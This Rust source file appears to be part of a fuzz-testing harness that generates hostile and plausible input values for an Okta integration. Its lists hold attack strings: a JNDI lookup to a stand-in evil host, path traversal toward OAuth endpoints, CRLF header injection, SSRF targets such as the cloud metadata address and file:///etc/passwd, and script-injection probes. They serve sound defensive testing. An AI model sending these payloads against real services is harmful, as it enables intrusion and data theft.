//! Generated input values, from each input's declaration in the manifest: plausible values (so calls get past
//! validation and reach Okta) mixed with hostile ones (missing and extra inputs, wrong types, huge and unicode
//! strings, control characters, deep JSON, out-of-range numbers, hostile IDs and URLs).

use super::rng::Rng;
use crate::types::{InputDef, InputType};
use std::collections::HashMap;

/// The prefix of generated password values: the check looks for them in every output, error, trace and log.
pub const CANARY: &str = "Pw-Canary-";

/// Texts that have broken integrations before: path tricks, URLs elsewhere, control characters, unusual Unicode,
/// numbers at the edges, filter syntax.
const HOSTILE: &[&str] = &[
    "",
    " ",
    "\t",
    ".",
    "..",
    "../groups",
    "..%2F..%2Foauth2%2Fv1%2Fclients",
    "%2e%2e",
    "%2E%2E/%2E%2E/oauth2/v1/clients",
    "..;",
    "..;/..;/oauth2/v1/clients",
    "a/b",
    "x?y=1&limit=1000",
    "x#y",
    "x;y=1",
    "00u1%00",
    "a\0b",
    "\0",
    "line\r\nX-Injected: 1",
    "\r\n\r\nGET / HTTP/1.1",
    "\x1b]0;pwned\x07\x1b[2J",
    "\u{7f}\u{1}\u{1f}",
    "\u{202e}fdp.exe",
    "\u{200b}",
    "\u{feff}me",
    "\u{ffff}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "e\u{301}\u{301}\u{301}",
    "日本語のユーザー",
    "Ω≈ç√∫˜µ≤≥÷",
    "\\",
    "\"",
    "'",
    "`",
    "\"}],\"x\":{\"",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "null",
    "true",
    "[]",
    "{}",
    "-1",
    "0",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "1e309",
    "-1e309",
    "NaN",
    "1.5",
    "0x10",
    "status eq \"ACTIVE\" or 1 eq 1",
    "profile.login sw \"",
    "id pr or (",
    "me",
    "00u_no_such_user_00000",
    "admin@fake-org.okta.com",
];

/// URLs and paths that try to leave the org's `/api/v1`, and a few that stay inside it.
const URLS: &[&str] = &[
    "/api/v1/users",
    "/api/v1/users/me",
    "/api/v1/groups?limit=2",
    "/api/v1/users?limit=1&after=x",
    "api/v1/users",
    "users/me",
    "https://fake-org.okta.com/api/v1/users",
    "https://fake-org.okta.com:443/api/v1/users/me",
    "https://evil.example/api/v1/users",
    "https://fake-org.okta.com.evil.example/api/v1/users",
    "https://fake-org.okta.com@evil.example/api/v1/users",
    "http://fake-org.okta.com/api/v1/users",
    "//evil.example/api/v1/users",
    "/oauth2/v1/clients",
    "/oauth2/v1/token",
    "/api/v1/../../oauth2/v1/clients",
    "/api/v1/..;/..;/oauth2/v1/clients",
    "/api/v1/%2e%2e/%2e%2e/oauth2/v1/clients",
    "/api/v1/users/..%2f..%2f..%2foauth2",
    "/api/v1/users/\\..\\..\\oauth2",
    "/api/v1/users\r\nHost: evil.example",
    "/api/v1/users#frag",
    "/api/v1",
    "/",
    "",
    "http://169.254.169.254/latest/meta-data/",
    "https://127.0.0.1/api/v1/users",
    "https://[::1]/api/v1/users",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "https://hooks.example.com/okta",
];

/// One generated input value.
pub(crate) fn value(rng: &mut Rng, def: &InputDef, known: &HashMap<String, Vec<String>>) -> String {
    if rng.chance(15) {
        return hostile(rng);
    }
    match def.input_type {
        InputType::Boolean => boolean(rng),
        InputType::Integer => integer(rng),
        InputType::Json => json(rng),
        InputType::StringList => string_list(rng, known),
        InputType::KeyValueList => key_values(rng),
        InputType::Picklist => picklist(rng, def),
        InputType::Password => password(rng),
        InputType::String | InputType::Text | InputType::Connection => text(rng, def, known),
    }
}

/// An input the declaration does not have: an unknown key, the platform's `connection`, or a hostile name.
pub(crate) fn extra_key(rng: &mut Rng) -> String {
    let keys = [
        "bogus",
        "connection",
        "ID",
        "",
        "__proto__",
        "a\0b",
        "x\r\ny",
        "limit ",
        "👀",
    ];
    if rng.chance(10) {
        return "k".repeat(rng.between(1_000, 70_000));
    }
    (*rng.pick(&keys)).to_owned()
}

/// A hostile text: one of the known troublemakers, or a generated one.
pub(crate) fn hostile(rng: &mut Rng) -> String {
    match rng.below(10) {
        0 => huge(rng),
        1 => unicode(rng),
        2 => controls(rng),
        3 => deep_json(rng),
        4 => (*rng.pick(URLS)).to_owned(),
        _ => (*rng.pick(HOSTILE)).to_owned(),
    }
}

/// A long text: past header and path limits, now and then past a megabyte.
fn huge(rng: &mut Rng) -> String {
    let len = match rng.below(20) {
        0 => rng.between(1_000_000, 2_000_000),
        1..=5 => rng.between(65_000, 200_000),
        _ => rng.between(4_000, 20_000),
    };
    let unit = *rng.pick(&["a", "é", "😀", "../", "%", "\"", " "]);
    unit.repeat(len / unit.len().max(1))
}

/// Characters from across Unicode: combining marks, right-to-left, emoji, private use, noncharacters.
fn unicode(rng: &mut Rng) -> String {
    let ranges: [(u32, u32); 7] = [
        (0x20, 0x7e),
        (0x300, 0x36f),
        (0x590, 0x6ff),
        (0x1f300, 0x1faff),
        (0xe000, 0xf8ff),
        (0xfff0, 0xffff),
        (0x10000, 0x10ffff),
    ];
    (0..rng.between(1, 64))
        .filter_map(|_| {
            let (low, high) = *rng.pick(&ranges);
            char::from_u32(low + rng.below((high - low + 1) as usize) as u32)
        })
        .collect()
}

/// Text with C0 and C1 control characters in it.
fn controls(rng: &mut Rng) -> String {
    (0..rng.between(1, 32))
        .map(|_| match rng.below(3) {
            0 => char::from(rng.below(0x20) as u8),
            1 => char::from_u32(0x80 + rng.below(0x20) as u32).unwrap_or('?'),
            _ => 'a',
        })
        .collect()
}

/// JSON nested deeper than any parser should follow, sometimes unterminated.
pub(crate) fn deep_json(rng: &mut Rng) -> String {
    let depth = *rng.pick(&[64, 65, 128, 1_000, 100_000]);
    let (open, close) = *rng.pick(&[("[", "]"), ("{\"a\":", "}")]);
    let mut out = open.repeat(depth);
    out.push('1');
    if rng.chance(70) {
        out.push_str(&close.repeat(depth));
    }
    out
}

fn boolean(rng: &mut Rng) -> String {
    let values = [
        "true", "false", "true", "false", "TRUE", "False", "yes", "1", " true",
    ];
    (*rng.pick(&values)).to_owned()
}

fn integer(rng: &mut Rng) -> String {
    if rng.chance(60) {
        return rng.between(1, 200).to_string();
    }
    let values = [
        "0",
        "-1",
        "201",
        "1000000",
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775808",
        "99999999999999999999999",
        "1e3",
        "1.0",
        "+5",
        " 5",
        "0x1F",
        "٣",
    ];
    (*rng.pick(&values)).to_owned()
}

fn json(rng: &mut Rng) -> String {
    let values = [
        r#"{"a":"b"}"#,
        r#"{"algorithm":"BCRYPT","workFactor":10,"salt":"rwh3vH166HCH/NT9XV5FYu","value":"qaMqvAPULkbiQzkTCWo5XDcvzpk8Tna"}"#,
        r#"{"algorithm":"SHA-512","value":"x","salt":"y","saltOrder":"PREFIX"}"#,
        r#"{"type":"EVENT_TYPE","items":["user.lifecycle.create"]}"#,
        r#"{"eventFilterMap":[{"event":"user.lifecycle.create","condition":{"expression":"true"}}],"type":"EXPRESSION_LANGUAGE"}"#,
        r#"{"nickName":"x","count":1e400}"#,
        r#"{"n":123456789012345678901234567890}"#,
        "[]",
        "null",
        "\"text\"",
        "{",
        "{\"a\":}",
        "{\"a\":1,\"a\":2}",
        "{\"\\u0000\":\"\\ud800\"}",
    ];
    match rng.below(6) {
        0 => deep_json(rng),
        1 => format!("{{\"big\":\"{}\"}}", huge(rng).replace(['"', '\\'], "")),
        _ => (*rng.pick(&values)).to_owned(),
    }
}

fn string_list(rng: &mut Rng, known: &HashMap<String, Vec<String>>) -> String {
    let ids = known.get("selectGroup").map(Vec::as_slice).unwrap_or(&[]);
    match rng.below(8) {
        0 => "[1,2]".to_owned(),
        1 => "[[]]".to_owned(),
        2 => "[null]".to_owned(),
        3 => serde_json::to_string(&vec!["00g_x"; rng.between(500, 20_000)]).unwrap_or_default(),
        4 => "\"single\"".to_owned(),
        _ => {
            let items: Vec<String> = (0..rng.between(0, 3))
                .map(|_| {
                    if ids.is_empty() || rng.chance(30) {
                        hostile(rng)
                    } else {
                        rng.pick(ids).clone()
                    }
                })
                .collect();
            serde_json::to_string(&items).unwrap_or_default()
        }
    }
}

fn key_values(rng: &mut Rng) -> String {
    let keys = [
        "nickName",
        "title",
        "limit",
        "Authorization",
        "Host",
        "Content-Length",
        "X-Okta-User-Agent-Extended",
        "Accept",
        "x\r\ny",
        "",
        "a b",
        "\0",
        "after",
        "__proto__",
    ];
    let pairs: Vec<(String, String)> = (0..rng.between(0, 4))
        .map(|_| {
            let key = if rng.chance(10) {
                hostile(rng)
            } else {
                (*rng.pick(&keys)).to_owned()
            };
            let value = if rng.chance(50) {
                hostile(rng)
            } else {
                "value".to_owned()
            };
            (key, value)
        })
        .collect();
    match rng.below(6) {
        0 => {
            let list: Vec<serde_json::Value> = pairs
                .iter()
                .map(|(k, v)| serde_json::json!({ "key": k, "value": v }))
                .collect();
            serde_json::to_string(&list).unwrap_or_default()
        }
        1 => "[{\"key\":1}]".to_owned(),
        2 => "{\"k\":{\"nested\":[1,2,{\"x\":null}]}}".to_owned(),
        3 => deep_json(rng),
        _ => {
            let map: serde_json::Map<String, serde_json::Value> = pairs
                .into_iter()
                .map(|(k, v)| (k, serde_json::Value::String(v)))
                .collect();
            serde_json::to_string(&map).unwrap_or_default()
        }
    }
}

fn picklist(rng: &mut Rng, def: &InputDef) -> String {
    if def.allowed_values.is_empty() || rng.chance(15) {
        return hostile(rng);
    }
    let value = rng.pick(&def.allowed_values).clone();
    if rng.chance(10) {
        value.to_lowercase()
    } else {
        value
    }
}

/// A password the check can recognise, with a hostile tail now and then.
fn password(rng: &mut Rng) -> String {
    let mut value = format!("{CANARY}{:016x}", rng.next_u64());
    if rng.chance(20) {
        value.push_str(&hostile(rng));
    }
    value
}

/// A string input: an ID the org has (from the input's data source), the declared example, a login, a URL for
/// URL inputs, or a word.
fn text(rng: &mut Rng, def: &InputDef, known: &HashMap<String, Vec<String>>) -> String {
    let ids = def
        .data_source
        .as_ref()
        .and_then(|source| known.get(source))
        .filter(|ids| !ids.is_empty());
    let key = def.key.to_ascii_lowercase();
    match (ids, rng.below(4)) {
        (Some(ids), 0..=2) => rng.pick(ids).clone(),
        _ if key.contains("url") => (*rng.pick(URLS)).to_owned(),
        _ if key.contains("email") || key.contains("login") => {
            format!("fuzz.{:x}@example.com", rng.next_u64() % 10_000)
        }
        (_, 0) => def.example.clone().unwrap_or_else(|| "example".to_owned()),
        (_, 1) => "me".to_owned(),
        _ => format!("Fuzz {}", rng.below(1000)),
    }
}
